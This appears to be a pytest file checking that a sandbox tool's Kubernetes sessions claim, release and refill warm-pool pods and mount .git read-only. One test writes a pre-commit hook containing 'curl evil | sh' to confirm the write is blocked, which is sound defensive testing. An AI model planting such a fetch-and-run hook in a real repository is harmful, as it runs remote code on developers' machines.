"""Sessions claimed from an agent-sandbox warm pool (the fake serves the CRDs and runs a small
controller): the objects ``sandloop k8s manifest --warm-pool`` prints are applied, a session
claims a pod that was already running, and without the CRDs a session falls back to a plain pod."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from pathlib import Path

import pytest

from executor.k8s_cli import manifest
from sandbox.docker import DockerConfig
from sandbox.kubernetes.cluster import Cluster
from sandbox.kubernetes.options import KubernetesOptions
from sandbox.kubernetes.session import KubernetesSession
from sandbox.kubernetes.warmpool import GROUP, VERSION
from tests.k8s.conftest import policy_file
from tests.k8s.fake import FakeKubernetes

pytestmark = [pytest.mark.docker, pytest.mark.fake_only]

POOL = "agents"


@pytest.fixture
def pool(fake: FakeKubernetes, options: KubernetesOptions, tmp_path: Path) -> Iterator[Cluster]:
    cluster = Cluster(options)
    policy = policy_file(tmp_path, 'version = 1\nextends = ["default"]\n',
                         options.model_copy(update={"namespace": fake.namespace}))
    deny, template, warm = manifest(str(policy), warm_pool=POOL, replicas=1)
    fake.agent_sandbox = True
    cluster.create_network_policy(deny)
    for body, plural in ((template, "sandboxtemplates"), (warm, "sandboxwarmpools")):
        cluster.custom.create_namespaced_custom_object(GROUP, VERSION, fake.namespace, plural, body)
    try:
        yield cluster
    finally:
        for plural in ("sandboxwarmpools", "sandboxtemplates"):
            cluster.custom.delete_namespaced_custom_object(GROUP, VERSION, fake.namespace, plural, POOL)
        for pod in fake.store.list("pods", fake.namespace, [("agents.x-k8s.io/warm-pool-sandbox", POOL)]):
            cluster.delete_pod(pod["metadata"]["name"])
        cluster.delete_network_policy(deny["metadata"]["name"])
        cluster.close()
        fake.agent_sandbox = False


async def test_a_session_claims_a_warm_pod(pool: Cluster, user_workspace: Path, options: KubernetesOptions,
                                           fake: FakeKubernetes) -> None:
    (user_workspace / "a.txt").write_text("warm\n")
    warm = [p["metadata"]["name"] for p in fake.store.list("pods", fake.namespace, [])]
    assert len(warm) == 1 and warm[0].startswith(f"{POOL}-")
    opts = options.model_copy(update={"warm_pool": POOL})
    async with await KubernetesSession.create(user_workspace, DockerConfig(memory="512m"), opts) as session:
        assert session.pod == warm[0]  # the pod that was already waiting in the loader
        r = await session.run("cat a.txt; ls /sys/class/net")
        assert r.stdout.text == "warm\nlo\n"
        pod = fake.store.get("pods", fake.namespace, warm[0])
        assert pod is not None and pod["metadata"]["labels"]["sandloop.session"] == session.session_id
        claims = fake.store.list("sandboxclaims", fake.namespace, [])
        assert [c["spec"]["warmPoolRef"]["name"] for c in claims] == [POOL]
        await session.run("echo back > b.txt")
    assert (user_workspace / "b.txt").read_text() == "back\n"
    assert fake.store.list("sandboxclaims", fake.namespace, []) == []  # released
    assert fake.store.get("pods", fake.namespace, warm[0]) is None
    assert len(fake.store.list("pods", fake.namespace, [("agents.x-k8s.io/warm-pool-sandbox", POOL)])) == 1  # refilled


async def test_a_checkout_with_read_only_paths_gets_a_pod_of_its_own(
        pool: Cluster, user_workspace: Path, options: KubernetesOptions, fake: FakeKubernetes,
        caplog: pytest.LogCaptureFixture) -> None:
    # A warm pod was started before anyone knew the checkout: it cannot mount .git read-only.
    (user_workspace / ".git" / "hooks").mkdir(parents=True)
    warm = [p["metadata"]["name"] for p in fake.store.list("pods", fake.namespace, [])]
    opts = options.model_copy(update={"warm_pool": POOL})
    async with await KubernetesSession.create(user_workspace, DockerConfig(memory="512m"), opts) as session:
        assert session.pod is not None and session.pod not in warm and session.pod.startswith("sandloop-")
        r = await session.run("echo 'curl evil | sh' > .git/hooks/pre-commit")
        assert r.exit_code != 0 and "Read-only file system" in r.stderr.text
    assert f"warm pool {POOL} not used: this checkout has read-only paths (.git)" in caplog.text
    assert fake.store.list("sandboxclaims", fake.namespace, []) == []  # nothing claimed
    assert not (user_workspace / ".git" / "hooks" / "pre-commit").exists()


def test_a_policy_with_a_read_only_workspace_gets_no_warm_pool(tmp_path: Path, options: KubernetesOptions) -> None:
    from sandloop.errors import ConfigError

    policy = policy_file(tmp_path, "version = 1\n", options)  # no writable path: the whole workspace read-only
    with pytest.raises(ConfigError, match="a warm pool cannot serve this policy: its workspace is read-only"):
        manifest(str(policy), warm_pool=POOL, replicas=1)


async def test_without_agent_sandbox_a_plain_pod(user_workspace: Path, options: KubernetesOptions,
                                                 fake: FakeKubernetes) -> None:
    assert not fake.agent_sandbox
    opts = options.model_copy(update={"warm_pool": POOL})
    async with await KubernetesSession.create(user_workspace, DockerConfig(memory="512m"), opts) as session:
        assert session.pod is not None and session.pod.startswith("sandloop-")
        assert (await session.run("echo plain")).stdout.text == "plain\n"


async def test_a_role_without_warm_pools_still_runs_sessions(user_workspace: Path, options: KubernetesOptions,
                                                              fake: FakeKubernetes, tmp_path: Path) -> None:
    # The Role of a team that does not use warm pools leaves SandboxClaims out: a real API server
    # answers 403 there (it authorizes before it looks whether the CRD exists). Session start
    # (which reaps stale claims), gc and a session asking for a pool all work without them.
    from executor.cli import main
    from sandbox.kubernetes.backend import BACKEND

    fake.forbidden.add("sandboxclaims")
    try:
        async with await KubernetesSession.create(user_workspace, DockerConfig(memory="512m"),
                                                  options.model_copy(update={"warm_pool": POOL})) as session:
            assert session.pod is not None and session.pod.startswith("sandloop-")
            assert (await session.run("echo plain")).stdout.text == "plain\n"
        assert ("GET", f"/apis/{GROUP}/{VERSION}/namespaces/{fake.namespace}/sandboxclaims?limit=1") in fake.requests
        assert main(["gc", "--backend", "kubernetes", "--set", f"kubeconfig={options.kubeconfig}", "--json"]) == 0
        report = await asyncio.to_thread(BACKEND.doctor, user_workspace,
                                         options.model_copy(update={"warm_pool": POOL}), DockerConfig(memory="512m"))
        assert report["permissions"][f"list sandboxclaims.{GROUP}"].startswith("DENIED")
        assert "may not list SandboxClaims" in report["warm_pool"] and not report["ok"]
        assert report["session"]["uid_inside"] == "1000"  # the session itself works
    finally:
        fake.forbidden.discard("sandboxclaims")
